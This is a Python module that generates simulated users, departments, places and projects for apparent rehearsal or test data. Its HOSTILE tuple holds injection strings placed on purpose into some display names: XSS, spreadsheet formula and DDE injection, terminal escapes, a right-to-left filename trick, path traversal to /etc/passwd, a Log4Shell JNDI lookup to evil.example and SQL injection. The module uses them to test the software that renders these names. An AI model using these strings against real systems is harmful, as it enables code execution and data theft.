"""Names of simulated people and things. A small share is non-ASCII, and a smaller one hostile on purpose."""

from __future__ import annotations

from typing import NamedTuple

from recovery.rehearsal.population.entropy import Draw

GIVEN = (
    "Anna",
    "Ben",
    "Carla",
    "David",
    "Elif",
    "Farid",
    "Grace",
    "Hugo",
    "Ines",
    "Jonas",
    "Kaoru",
    "Lena",
    "Marco",
    "Nadia",
    "Olga",
    "Pedro",
    "Quentin",
    "Rosa",
    "Samir",
    "Tereza",
    "Umar",
    "Vera",
    "Wim",
    "Xenia",
    "Yusuf",
    "Zoe",
    "Amélie",
    "Björn",
    "Chloé",
    "Dagný",
    "Émile",
    "François",
    "Günther",
    "Håkon",
    "İbrahim",
    "João",
    "Łukasz",
    "Zoë",
)
SURNAMES = (
    "Andersen",
    "Bauer",
    "Costa",
    "Dupont",
    "Evans",
    "Fischer",
    "Garcia",
    "Hansen",
    "Ivanov",
    "Jansen",
    "Keller",
    "Lindqvist",
    "Moreau",
    "Novak",
    "Okafor",
    "Petrov",
    "Quinn",
    "Rossi",
    "Schmidt",
    "Tanaka",
    "Usman",
    "Virtanen",
    "Weber",
    "Xu",
    "Yilmaz",
    "Zimmermann",
    "Müller",
    "Núñez",
    "Øster",
    "Škoda",
    "Ångström",
    "D'Arcy",
    "van der Berg",
)
NATIVE = ("山田 太郎", "Анна Иванова", "أحمد علي", "שרה כהן", "김민준", "Ελένη Παπαδοπούλου", "ปิยะ สุขใจ", "🦊 Fox Team")
HOSTILE = (
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example","open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07",
    "-2+3+cmd|' /C calc'!A0",
    "a\u202egnp.exe",
    "line\r\nbreak\ttab",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE users; --",
)
"""Display names that attack a report, a spreadsheet, a terminal or a path. Display names are attacker-controlled."""

HOSTILE_PER_MILLE = 4
NATIVE_PER_MILLE = 25

DEPARTMENTS = (
    "Finance",
    "Engineering",
    "Human Resources",
    "Legal",
    "Marketing",
    "Operations",
    "Sales",
    "Research",
    "IT",
    "Procurement",
    "Customer Care",
    "Quality",
    "Logistics",
    "Facilities",
)
TITLES = (
    "Analyst",
    "Senior Analyst",
    "Engineer",
    "Senior Engineer",
    "Manager",
    "Director",
    "Specialist",
    "Coordinator",
    "Consultant",
    "Architect",
    "Assistant",
    "Technician",
    "Team Lead",
    "Intern",
)
PLACES = (
    ("Amsterdam", "NL", "Noord-Holland", "1012", "nl-NL"),
    ("Berlin", "DE", "Berlin", "10115", "de-DE"),
    ("Lyon", "FR", "Rhône", "69001", "fr-FR"),
    ("Madrid", "ES", "Madrid", "28001", "es-ES"),
    ("Milano", "IT", "Lombardia", "20121", "it-IT"),
    ("Oslo", "NO", "Oslo", "0150", "nb-NO"),
    ("Praha", "CZ", "Praha", "110 00", "cs-CZ"),
    ("São Paulo", "BR", "SP", "01000-000", "pt-BR"),
    ("Tokyo", "JP", "Tokyo", "100-0001", "ja-JP"),
    ("Wien", "AT", "Wien", "1010", "de-AT"),
    ("Zürich", "CH", "Zürich", "8001", "de-CH"),
    ("Seattle", "US", "WA", "98101", "en-US"),
)
"""City, country, state, postal code, language."""

PROJECTS = (
    "Atlas",
    "Borealis",
    "Cedar",
    "Delta",
    "Ember",
    "Falcon",
    "Granite",
    "Harbour",
    "Iris",
    "Juniper",
    "Kestrel",
    "Lumen",
    "Meridian",
    "Nimbus",
    "Orchid",
    "Pioneer",
    "Quartz",
    "Rivet",
    "Summit",
    "Tundra",
)


class PersonName(NamedTuple):
    given: str
    surname: str
    display: str


def person_name_of(draw: Draw, index: int) -> PersonName:
    """The name of user number `index`; numbers 20 to 31 are hostile in every tenant, however small."""
    given, surname = draw.pick(GIVEN), draw.pick(SURNAMES)
    if 20 <= index < 20 + len(HOSTILE):
        return PersonName(given, surname, HOSTILE[index - 20])
    lot = draw.below(1000)
    if lot < HOSTILE_PER_MILLE:
        return PersonName(given, surname, f"{draw.pick(HOSTILE)} {index}")
    if lot < HOSTILE_PER_MILLE + NATIVE_PER_MILLE:
        return PersonName(given, surname, f"{draw.pick(NATIVE)} {index}")
    return PersonName(given, surname, f"{given} {surname}")


_PLAIN = str.maketrans(
    "éöóçüåİãłëñøŠÅÉØŁğúáýôèêîâäï'",
    "eoocuaialenosaeolguayoeeiaai-",
)


def plain_of(name: str) -> str:
    """`name` in lower-case ASCII letters, for an address."""
    text = name.translate(_PLAIN).lower().replace(" ", "")
    return "".join(c for c in text if c.isascii() and (c.isalnum() or c == "-")) or "user"
